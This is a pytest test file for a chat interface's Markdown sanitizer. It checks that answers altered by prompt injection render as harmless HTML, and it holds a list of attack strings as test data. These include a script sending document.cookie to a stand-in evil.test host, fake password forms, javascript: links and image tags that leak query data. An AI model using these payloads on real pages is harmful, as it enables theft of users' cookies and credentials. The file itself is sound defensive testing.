"""Untrusted Markdown rendered inert (ui/markdown.py): what a prompt-injected answer can and cannot do."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from ui.markdown import StreamingMarkdown, join_blocks, markdown_html

SAFE_TAGS = {
    *("p", "br", "strong", "em", "b", "i", "u", "s", "del", "ins", "sub", "sup", "kbd", "mark", "small"),
    *("code", "pre", "a", "ul", "ol", "li", "blockquote", "hr", "h1", "h2", "h3", "h4", "h5", "h6"),
    *("table", "thead", "tbody", "tr", "th", "td"),
    # A code block: Gradio's markup, with its copy button.
    *("div", "button", "span"),
}
SAFE_ATTRIBUTES = {"class", "href", "target", "rel", "title", "type", "aria-label", "start"}


class Elements(HTMLParser):
    """Every element and attribute of an HTML text, as a browser would build them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.comments: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def parse(html: str) -> Elements:
    parser = Elements()
    parser.feed(html)
    parser.close()
    return parser


def assert_inert(html: str) -> Elements:
    """Only formatting elements, no style or event attributes, nothing loaded, links that are safe."""
    found = parse(html)
    assert not found.comments
    for tag, attrs in found.elements:
        assert tag in SAFE_TAGS, f"<{tag}> in {html!r}"
        assert set(attrs) <= SAFE_ATTRIBUTES, f"<{tag} {attrs}> in {html!r}"
        if tag == "a":
            href = attrs["href"] or ""
            assert urlsplit(href).scheme in ("http", "https", "mailto"), href
            assert attrs["rel"] == "noopener noreferrer nofollow"
            assert attrs["target"] == "_blank"
        if tag in ("div", "button", "span"):
            assert attrs.get("class") in ("code_wrap", "copy_code_button", "copy-text", "check")
    return found


def visible_text(html: str) -> str:
    return "".join(parse(html).text)


ATTACKS = {
    "form": '<form action="http://evil.test/"><input type="password" name="p"><button>Go</button></form>',
    "inline form": "Sign in: <form action=http://evil.test><input type=password name=p></form> please",
    "input": "Your password: <input type=password autofocus>",
    "iframe": '<iframe src="http://evil.test/"></iframe>',
    "iframe srcdoc": "text <iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "style attribute": '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Session over</div>',
    "style attribute inline": 'look <span style="position:fixed;top:0;left:0">here</span>',
    "style element": "<style>body{display:none}</style>",
    "event handler": '<b onmouseover="alert(1)">hover</b> <img src=x onerror=alert(1)>',
    "allowed tag with attribute": '<b class="x" onclick="alert(1)">bold</b>',
    "javascript link": "[click me](javascript:alert(document.cookie))",
    "javascript link, mixed case": "[click me](JaVaScRiPt:alert(1))",
    "javascript link, entity": "[click me](jav&#x61;script:alert(1))",
    "javascript autolink": "<javascript:alert(1)>",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "relative link": "[export](api/conversations/c1/export) [up](/gradio_api/upload) [proto](//evil.test/x)",
    "markdown image": "![x](http://127.0.0.1:9/leak?q=secret)",
    "reference image": "![x][img]\n\n[img]: http://127.0.0.1:9/leak?q=secret",
    "img tag": '<img src="http://127.0.0.1:9/leak?q=secret">',
    "picture": '<picture><source srcset="http://evil.test/a.png"></picture>',
    "svg": '<svg onload="alert(1)"><image href="http://evil.test/a.png"/></svg>',
    "math": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "html comment": "before <!-- <img src=http://evil.test/a.png> --> after",
    "html comment block": "<!--\n<form><input type=password></form>\n-->",
    "entity tricks": "&lt;img src=http://evil.test/a.png&gt; &#60;form&#62; &#x3C;input type=password&#x3E;",
    "double-encoded": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "script": "<script>fetch('http://evil.test/?c='+document.cookie)</script>",
    "object and embed": '<object data="http://evil.test/x.swf"></object><embed src="http://evil.test/x">',
    "base and meta": '<base href="http://evil.test/"><meta http-equiv="refresh" content="0;url=http://evil.test">',
    "link stylesheet": '<link rel="stylesheet" href="http://evil.test/x.css">',
    "details": "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
    "textarea": "<textarea>x</textarea><select><option>y</option></select>",
    "in a table": "| a | b |\n|---|---|\n| <img src=http://evil.test/a.png> | <form><input></form> |",
    "in a list": "- <iframe src=http://evil.test></iframe>\n- ![x](http://evil.test/a.png)",
    "in a heading": "# <span style='position:fixed'>title</span>",
    "in a link": "[<img src=http://evil.test/a.png>](https://example.com)",
    "unclosed tags": '<div style="position:fixed"><form><input type=password',
}


@pytest.mark.parametrize("markdown", ATTACKS.values(), ids=ATTACKS.keys())
def test_an_injected_answer_renders_inert(markdown: str) -> None:
    html = markdown_html(markdown)
    found = assert_inert(html)
    tags = {tag for tag, _ in found.elements}
    assert not tags & {"form", "input", "iframe", "img", "svg", "math", "style", "script", "image"}


@pytest.mark.parametrize("markdown", ATTACKS.values(), ids=ATTACKS.keys())
def test_an_injected_answer_stays_inert_at_every_point_of_its_stream(markdown: str) -> None:
    stream = StreamingMarkdown()
    for end in range(1, len(markdown) + 1):
        settled, tail = stream.render(markdown[:end])
        assert_inert(settled)
        assert_inert(tail)


def test_raw_html_is_shown_as_the_text_it_is() -> None:
    text = visible_text(
        markdown_html('Sign in: <form action="http://evil.test"><input type=password></form>')
    )
    assert 'Sign in: <form action="http://evil.test"><input type=password></form>' in text


def test_entities_are_not_decoded_into_tags() -> None:
    html = markdown_html("&lt;img src=x&gt; &#60;form&#62;")
    assert "<img" not in html
    assert "<form" not in html
    assert visible_text(html) == "<img src=x> <form>"


def test_an_image_is_a_link_to_it_never_loaded() -> None:
    html = markdown_html("![the chart](https://charts.example.com/a.png?q=1)")
    assert "<img" not in html
    [(_, attrs)] = [e for e in parse(html).elements if e[0] == "a"]
    assert attrs["href"] == "https://charts.example.com/a.png?q=1"
    assert "Image: the chart" in visible_text(html)
    # Not http(s): not even a link.
    assert parse(markdown_html("![x](file:///etc/passwd)")).elements == [("p", {})]


def test_links_open_in_a_new_tab_without_a_referrer() -> None:
    html = markdown_html("[docs](https://docs.example.com/a) and https://bare.example.com/b.")
    links = [attrs for tag, attrs in parse(html).elements if tag == "a"]
    assert [a["href"] for a in links] == ["https://docs.example.com/a", "https://bare.example.com/b"]
    assert all(a["rel"] == "noopener noreferrer nofollow" and a["target"] == "_blank" for a in links)


def test_a_javascript_link_is_plain_text() -> None:
    html = markdown_html("[click](javascript:alert(1))")
    assert "<a" not in html
    assert visible_text(html) == "[click](javascript:alert(1))"


def test_a_few_formatting_tags_are_kept_balanced_and_bare() -> None:
    html = markdown_html("H<sub>2</sub>O, <kbd>Ctrl</kbd>, line<br>break, <b>never closed")
    assert "H<sub>2</sub>O" in html
    assert "<kbd>Ctrl</kbd>" in html
    assert "line<br />break" in html
    assert html.endswith("<b>never closed</b></p>")
    assert "<b>" not in markdown_html("a </b> b")  # a stray closing tag is text
    assert visible_text(markdown_html("a </b> b")) == "a </b> b"


def test_markdown_formatting_still_works() -> None:
    html = markdown_html(
        "# Title\n\nSome **bold**, *italic*, ~~gone~~ and `x < y`.\n\n"
        "- one\n- two\n\n1. first\n2. second\n\n> quoted\n\n"
        "| city | people |\n|:-----|-------:|\n| Oslo | 700k |\n\n"
        "```python\nif a < b:\n    print('<hi>')\n```\n\n[a link](https://example.com)"
    )
    assert_inert(html)
    tags = [tag for tag, _ in parse(html).elements]
    for tag in (
        "h1",
        "strong",
        "em",
        "s",
        "code",
        "ul",
        "ol",
        "li",
        "blockquote",
        "table",
        "th",
        "td",
        "pre",
        "a",
    ):
        assert tag in tags, tag
    assert "<code>x &lt; y</code>" in html
    assert """<code class="language-python">if a &lt; b:&#10;    print('&lt;hi&gt;')</code>""" in html
    # Alignment is a class, never a style.
    assert '<th class="cs-align-right">people</th>' in html


def test_each_block_is_one_line_of_html_that_starts_with_a_block_tag() -> None:
    # The Chatbot's own Markdown parser must see each block as one raw HTML block, or it would parse
    # what is inside (a code block's text after a blank line, say) as Markdown again.
    html = markdown_html(
        "para\n\n```\ncode\n\n![x](http://evil.test/a.png)\n```\n\n- a\n\n- b\n\n    indented\n\n    more"
    )
    blocks = html.split("\n\n")
    assert len(blocks) == 3
    for block in blocks:
        assert "\n" not in block
        assert block.startswith(("<p>", "<div ", "<ul>"))
    assert "![x](http://evil.test/a.png)" in visible_text(html)


def test_streaming_renders_the_same_as_the_whole_text_and_only_ever_adds_to_what_is_settled() -> None:
    answer = (
        "Intro with **bold** and a [link](https://example.com).\n\n"
        "- one\n- two\n\n  still two\n\n"
        "```python\ndef f(x):\n\n    return x < 2\n```\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n"
        "> quote\nlazy line\n\n    indented code\n\nLast <b>paragraph"
    )
    stream = StreamingMarkdown()
    settled_before = ""
    for end in range(1, len(answer) + 1):
        settled, tail = stream.render(answer[:end])
        assert join_blocks(settled, tail) == markdown_html(answer[:end]), answer[:end]
        assert settled.startswith(settled_before)
        settled_before = settled
    assert settled_before.count("\n\n") >= 4  # most of it settled along the way


def test_a_partial_tag_mid_stream_is_text_until_it_is_complete() -> None:
    stream = StreamingMarkdown()
    _, tail = stream.render('Here <div style="position:fix')
    assert "<div" not in tail
    _, tail = stream.render("Water is H<su")
    assert visible_text(tail) == "Water is H<su"
    _, tail = stream.render("Water is H<sub>2")
    assert tail == "<p>Water is H<sub>2</sub></p>"


def test_a_replaced_text_starts_over() -> None:
    stream = StreamingMarkdown()
    stream.render("first paragraph\n\nsecond")
    settled, tail = stream.render("something else entirely")
    assert (settled, tail) == ("", "<p>something else entirely</p>")
